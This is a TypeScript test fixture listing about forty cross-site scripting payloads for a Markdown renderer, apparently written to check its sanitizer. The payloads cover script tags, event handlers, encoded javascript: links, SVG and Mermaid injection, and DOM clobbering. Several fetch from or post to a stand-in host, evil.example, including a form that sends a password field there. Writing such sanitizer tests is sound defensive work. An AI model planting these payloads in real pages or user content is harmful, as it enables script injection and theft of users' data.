/** Markdown that tries to do more than be read, by what it tries. Each would open a dialog or ask another host if it succeeded. */
export const ATTACKS: Record<string, string> = {
  'a script': '<script>alert(1)</script>\n\n<ScRiPt src=//evil.example></sCrIpT>',
  'a script in a line': 'a <script>alert(1)</script> b <img src=x onerror=alert(1)>',
  'a script split by Markdown': '<scr**ipt>**alert(1)</script>\n\n<<script>script>alert(1)<</script>/script>',
  handlers: '<p onclick="alert(1)">x</p>\n\n<body onload=alert(1)>\n\n<details ontoggle=alert(1) open>x</details>',
  'a handler on an allowed tag':
    '<kbd onclick=alert(1)>x</kbd> <br onmouseover=alert(1)> <sub\nonclick=alert(1)>x</sub>',
  'javascript in a link':
    '[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](javascript&colon;alert(1)) [d](java&#10;script:alert(1)) [e](&#1;javascript:alert(1)) [f](<java\tscript:alert(1)>) [g]( javascript:alert(1))',
  'javascript encoded':
    '[a](&#x6A;avascript:alert(1)) [b](jav&#x09;ascript:alert(1)) [c](javascript&#58;alert(1)) [d](%6aavascript:alert(1)) [e](\\javascript:alert(1)) [f](javascript\\:alert(1))',
  'javascript by reference': '[a][x] [x] ![x]\n\n[x]: javascript:alert(1) "t"\n',
  'javascript in an autolink': '<javascript:alert(1)> javascript:alert(1) <vbscript:x> <data:text/html,x>',
  'a javascript picture':
    '![a](javascript:alert(1)) ![b](data:image/svg+xml;base64,PHN2Zy8+) ![c](https://example.org/x.png"onerror="alert(1))',
  'data addresses':
    '[a](data:text/html;base64,PHNjcmlwdD4=) [b](DATA:text/html,<script>alert(1)</script>) [c](blob:https://x/y) [d](filesystem:x) [e](view-source:x)',
  'quotes breaking out of a title':
    '[a](/x "\\" onmouseover=\\"alert(1)") ![b](https://x.example/y "\'\\"><script>alert(1)</script>")',
  'quotes breaking out of a picture’s words': '![" onerror="alert(1)](https://x.example/y)',
  svg: '<svg onload=alert(1)><script>alert(1)</script></svg>\n\n<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  'svg and math confusing the parser':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  'noscript, template, plaintext':
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">\n\n<template><script>alert(1)</script></template>\n\n<plaintext>',
  'a frame':
    '<iframe src="javascript:alert(1)"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe><object data=x></object><embed src=x>',
  'a style':
    '<style>*{background:url(//evil.example)}</style>\n\n<p style="position:fixed">x</p>\n\n<link rel=stylesheet href=//evil.example>',
  'a form':
    '<form action=//evil.example><input name=p type=password><button formaction=javascript:alert(1)>x</button></form>',
  'base and meta': '<base href="//evil.example/"><meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  'names that clobber': '<a id=body name=body>x</a>\n\n## body\n\n## constructor\n\n## __proto__\n\n## main\n',
  'an unclosed comment': 'a <!-- b\n\n--> c <!--> <script>alert(1)</script> -->',
  'cdata and processing instructions':
    '<![CDATA[ <script>alert(1)</script> ]]>\n\n<?php x ?><script>alert(1)</script>\n\n<!DOCTYPE html>',
  'directive attributes':
    '::experiment{keep-alive onclick="alert(1)" class=x id=y style="x"}\n\n:term[x]{onclick=alert(1) #main .a}\n\n:::hint{onclick="alert(1)" #main}\nx\n:::',
  'a directive’s slug':
    '::experiment["><script>alert(1)</script>]\n\n::build[a b]\n\n::experiment{__proto__}\n\n::build{"a"}',
  'a directive’s label': ':::hint[<script>alert(1)</script> [x](javascript:alert(1))]\n<script>alert(1)</script>\n:::',
  'the language of a fence':
    '```"><script>alert(1)</script>\nx\n```\n\n```ts"onclick=alert(1)\nx\n```\n\n```__proto__\nx\n```\n\n```constructor\nx\n```\n\n```../../etc/passwd\nx\n```',
  code: '```html\n<script>alert(1)</script>\n```\n\n```http\nGET /<script>alert(1)</script> HTTP/1.1\nA<b>: <img src=x onerror=alert(1)>\n```\n\n```console\n$ <script>alert(1)</script>\n<b>\n```\n\n`<script>`',
  'a diagram’s labels':
    '```mermaid alt="\\"><script>alert(1)</script>"\nflowchart TD\n  A["<script>alert(1)</script>"] -->|"<img src=x onerror=alert(1)>"| B["</text></svg><script>alert(1)</script>"]\n```',
  'a diagram’s sequence':
    '```mermaid alt="x"\nsequenceDiagram\n  participant A as <script>alert(1)</script>\n  A->>B: </text><foreignObject><body onload=alert(1)>\n  Note over A: <style>*{}</style>\n```',
  'a diagram’s clicks and styles':
    '```mermaid alt="x"\nflowchart TD\n  A-->B\n  click A "javascript:alert(1)"\n  click B call alert(1)\n  style A fill:url(//evil.example),stroke:expression(alert(1))\n  classDef x fill:#f00"onload="alert(1)\n  class B x\n```',
  'a diagram’s directive':
    '```mermaid alt="x"\n%%{init: {"securityLevel":"loose","themeCSS":"*{background:url(//evil.example)}"}}%%\nflowchart TD\n  A-->B\n```',
  'a diagram’s ids': '```mermaid alt="x"\nflowchart TD\n  main["x"] --> body\n  subgraph "<script>"\n  c\n  end\n```',
  'a note':
    'a[^</script>] b[^"onclick="x] c[^n]\n\n[^n]: <script>alert(1)</script> [x](javascript:alert(1))\n\n    <img src=x onerror=alert(1)>',
  'a note of itself': 'a[^1]\n\n[^1]: b[^1] c[^2]\n[^2]: d[^1]\n',
  'a term': 'A pear and </span><script>alert(1)</script>. :term[pear <b>x</b>]',
  'a table': '| <script>alert(1)</script> | a |\n| :-: | - |\n| [x](javascript:alert(1)) | <td onclick=x> |',
  'an address of mail': '<a@b.example"onclick=alert(1)> <mailto:x@y.example?body=%0a<script>>',
  'bytes that are hidden': 'a\u0000b <scr\u0000ipt>alert(1)</script> \u202e [x](java\u0000script:alert(1)) \ufeff',
  'very deep nesting': `${'> '.repeat(400)}x\n\n${'*'.repeat(2000)}a${'*'.repeat(2000)}\n\n${'['.repeat(2000)}\n`,
}
